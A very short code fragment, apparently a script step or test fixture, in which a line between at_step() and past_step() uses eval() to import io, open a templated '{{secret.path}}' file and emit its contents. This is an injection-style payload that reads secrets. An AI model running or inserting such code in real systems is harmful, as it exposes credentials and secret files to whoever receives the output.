at_step()
emit(eval("__import__('io').open('{{secret.path}}').read()"))  # step
past_step()
